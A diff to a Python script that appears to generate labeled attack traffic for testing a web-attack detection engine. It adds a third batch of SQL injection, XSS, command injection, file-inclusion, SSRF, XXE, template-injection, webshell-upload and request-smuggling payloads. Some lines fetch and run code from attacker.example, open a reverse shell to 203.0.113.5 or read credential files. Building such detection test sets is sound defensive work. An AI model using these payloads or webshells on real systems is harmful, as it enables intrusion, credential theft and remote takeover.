@@ -1023,6 +1023,152 @@ BATCH2 = {"sqli": sqli2, "xss": xss2, "cmdi": cmdi2, "lfi": lfi2, "rfi_ssrf": rf
           "ssti": ssti2, "webshell": webshell2, "scanner": scanner2, "protocol": protocol2}
 
 
+# ------------------------------------------------------------------ batch 3
+# Held out like batch 2: written after the engine had been tuned on batches 1
+# and 2, measured before commit.
+def sqli3():
+    return [
+        Q("/api/products", "price_min", "0 or sleep(5)"),
+        Q("/search", "q", "'; select usename, passwd from pg_shadow --"),
+        F("/login", "username", "';SHUTDOWN WITH NOWAIT;--", [("password", "x")]),
+        Q("/report", "col", "1,(select(@)from(select(@:=0x00),(select(@)from(information_schema.columns)where(@)in"
+          "(@:=concat(@,0x3c62723e,table_name,0x3a,column_name))))@)"),
+        RQ("/item", "id=1%23%0aunion%23%0aselect%201,2"),
+        Q("/item", "id", "1 and 1=1 union select 1,group_concat(schema_name) from information_schema.schemata-- -",
+          e=uenc),
+        H("/", "X-Forwarded-For", "1.1.1.1', (select sleep(5)))#"),
+        Q("/item", "id", "1 and exp(~(select * from (select user())a))"),
+        Q("/item", "id", "1 and st_latfromgeohash((select version()))"),
+        M("/contact", [("name", "a"), ("msg", "hello'); exec sp_configure 'show advanced options',1;--")]),
+        J("/graphql", {"query": "query { users(where: \"1=1; DROP TABLE users\") { id } }"}),
+        Q("/sort", "dir", "asc, if(ascii(substr(database(),1,1))>100,sleep(2),0)"),
+        C("/", "tracking_id=x' AND (SELECT 8000 FROM (SELECT(SLEEP(5)))a)-- ; lang=en"),
+        Q("/item", "id", "iif(1=1,1,1/0)"),
+    ]
+
+
+def xss3():
+    return [
+        Q("/s", "q", "<svg><animatetransform onbegin=alert(1) attributeName=transform>"),
+        Q("/s", "q", "<math href=\"javascript:alert(1)\">click</math>"),
+        Q("/s", "q", "<form><button formaction=javascript&colon;alert(1)>x"),
+        F("/comment", "body", "<a href=\"https://ok.example\" style=\"position:fixed;top:0;left:0;width:100%;"
+          "height:100%\" onmouseover=\"alert(1)\">"),
+        Q("/s", "q", "<img src=x onerror=Function('al'+'ert(1)')()>"),
+        Q("/s", "q", "<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`;//"),
+        H("/", "Referer", "javascript:alert(document.cookie)"),
+        Q("/s", "q", "<sCrIpT sRc=//attacker.example/x></sCrIpT>"),
+        Q("/s", "q", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
+        J("/api/v1/chat/send", {"to": 1, "text": "hi <iframe src=//attacker.example/phish width=0 height=0></iframe>"}),
+        Q("/s", "q", "\"><img src=x id=dmFyIGE9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iik7 onerror=eval(atob(this.id))>"),
+    ]
+
+
+def cmdi3():
+    return [
+        Q("/api/dns", "name", "example.com;getent passwd"),
+        J("/api/v1/convert", {"input": "a.svg", "args": "-density 300 | bash -c 'curl attacker.example/x|sh'"}),
+        F("/tools/zip", "name", "out.zip -T -TT 'sh -c id'"),
+        Q("/tools/ping", "host", "127.0.0.1 ; /bin/sh -c \"$(curl -fsSL attacker.example/i)\""),
+        Q("/win/ping", "host", "127.0.0.1 | whoami /all"),
+        Q("/tools/tar", "file", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
+        Q("/tools/ping", "host", "127.0.0.1&&c^m^d /c whoami"),
+        H("/cgi-bin/status", "Cookie", "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.5/8080 0>&1"),
+    ]
+
+
+def lfi3():
+    return [
+        Q("/download", "file", "../../../../../../../../var/lib/mysql/mysql/user.MYD"),
+        Q("/download", "file", "C:\\Windows\\repair\\sam"),
+        J("/api/v1/logs", {"file": "../../../../../../root/.aws/credentials"}),
+        Q("/view", "page", "/usr/local/tomcat/conf/tomcat-users.xml"),
+        P("/resources/%c0%ae%c0%ae/%c0%ae%c0%ae/WEB-INF/web.xml"),
+        Q("/index.jsp", "page", "/WEB-INF/classes/application.properties"),
+        Q("/read", "f", "....//....//....//proc/self/status"),
+    ]
+
+
+def rfi_ssrf3():
+    return [
+        Q("/fetch", "url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
+        Q("/fetch", "url", "http://instance-data/latest/meta-data/"),
+        Q("/fetch", "url", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
+        J("/api/v1/avatar", {"url": "http://0x7f.0x0.0x0.0x1:6379/"}),
+        Q("/fetch", "url", "https://127.0.0.1.nip.io:8443/admin"),
+        Q("/index.php", "page", "//attacker.example/shell.txt?"),
+        F("/feeds/add", "feed_url", "file:///etc/passwd"),
+        Q("/fetch", "url", "http://[0:0:0:0:0:0:0:1]:3306/"),
+    ]
+
+
+def xxe3():
+    pre = '<?xml version="1.0" encoding="UTF-8"?>\n'
+    return [
+        XML("/api/xml/in", pre + "<!DOCTYPE r [<!ENTITY % x SYSTEM \"file:///etc/passwd\"><!ENTITY % y \"<!ENTITY "
+            "&#x25; z SYSTEM 'http://attacker.example/?%x;'>\">%y;%z;]><r/>"),
+        M("/import/sheet", [("file", pre + "<!DOCTYPE Types [<!ENTITY x SYSTEM 'http://attacker.example/ct'>]>"
+                              "<Types>&x;</Types>", "[Content_Types].xml", "application/xml")]),
+        XML("/api/xml/in", "\ufeff" + pre + '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/group">]><a>&b;</a>'),
+        XML("/api/xml/in", pre + '<!DOCTYPE m [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
+            '<m>&x;</m>'),
+    ]
+
+
+def ssti3():
+    return [
+        Q("/hello", "name", "{{''.__class__.__bases__[0].__subclasses__()[59].__init__.func_globals.linecache.os."
+          "popen('ls').read()}}"),
+        Q("/hello", "name", "{% import os %}{{ os.popen('id').read() }}"),
+        F("/tpl", "t", "<%= File.open('/etc/passwd').read %>"),
+        Q("/hello", "name", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}"),
+        Q("/hello", "name", "{{request.environ}}"),
+        H("/", "X-Forwarded-For", "${jndi:rmi://203.0.113.5:1099/obj}"),
+        Q("/search", "q", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
+    ]
+
+
+def webshell3():
+    shells = [
+        ("cfg.php", "text/plain", "<?php $c=$_COOKIE['c'];if($c){@eval(base64_decode($c));} ?>"),
+        ("upload.phtml", "text/plain", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['p']); ?>"),
+        ("404.php", "text/plain", "<?php http_response_code(404); if(md5($_GET['k'])=="
+         "'e10adc3949ba59abbe56e057f20f883e'){eval($_POST['x']);} ?>"),
+        ("shell.cer", "application/x-x509-ca-cert", "<%eval request(\"z\")%>"),
+        ("readme.jsp", "text/plain", "<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"q\"))"
+         ".getInputStream()).next() %>"),
+        ("ma.php", "text/plain", "<?php ${'_'.'GET'}['f'](${'_'.'GET'}['c']); ?>"),
+    ]
+    return [M("/api/v1/files", [("file", body, f, ctype)], boundary="----geckoformboundary%020d" % (i * 7))
+            for i, (f, ctype, body) in enumerate(shells)]
+
+
+def scanner3():
+    return [
+        H("/", "User-Agent", "Wapiti/3.0.4 (wapiti-scanner.github.io)"),
+        P("/.git/index"),
+        P("/www.tar.gz"),
+        P("/web.rar"),
+        P("/.bash_history"),
+        P("/debug/pprof/"),
+        P("/druid/index.html"),
+        P("/.idea/workspace.xml"),
+    ]
+
+
+def protocol3():
+    return [
+        with_headers("POST", "/api", {"Content-Length": "5", "Content-Length ": "6"}, "hello"),
+        with_headers("POST", "/api", {"Transfer-Encoding": "chunked", "Transfer-encoding": "identity"},
+                     "0\r\n\r\n"),
+        with_headers("GET", "/", {"X-Original-URL": "/admin/users/delete?id=1"}),
+    ]
+
+
+BATCH3 = {"sqli": sqli3, "xss": xss3, "cmdi": cmdi3, "lfi": lfi3, "rfi_ssrf": rfi_ssrf3, "xxe": xxe3,
+          "ssti": ssti3, "webshell": webshell3, "scanner": scanner3, "protocol": protocol3}
+
+
 CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_ssrf", rfi_ssrf),
               ("xxe", xxe), ("ssti", ssti), ("webshell", webshell), ("scanner", scanner),
               ("protocol", protocol)]
@@ -1030,11 +1176,13 @@ CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_
 
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else OUT
-    # Batch 1 first, for all files, then batch 2: each batch's User-Agent
+    # Batch 1 first, for all files, then batch 2, then 3: each batch's User-Agent
     # rotation stays what it was when it was measured.
     first = [(name, fn()) for name, fn in CATEGORIES]
     for name, reqs in first:
         reqs += BATCH2[name]()
+    for name, reqs in first:
+        reqs += BATCH3[name]()
     for name, reqs in first:
         seen = set()
         for r in reqs:
